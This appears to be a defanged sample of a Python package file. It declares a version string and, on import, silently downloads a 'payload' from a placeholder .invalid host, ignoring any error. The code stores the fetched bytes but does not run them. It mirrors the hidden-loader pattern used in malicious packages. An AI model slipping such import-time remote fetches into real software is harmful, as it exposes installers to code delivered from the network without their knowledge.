# defanged: URL under .invalid
import urllib.request

__version__ = "1.0.3"

try:
    payload = urllib.request.urlopen("https://cdn.example.invalid/p", timeout=3).read()
except Exception:
    payload = b""
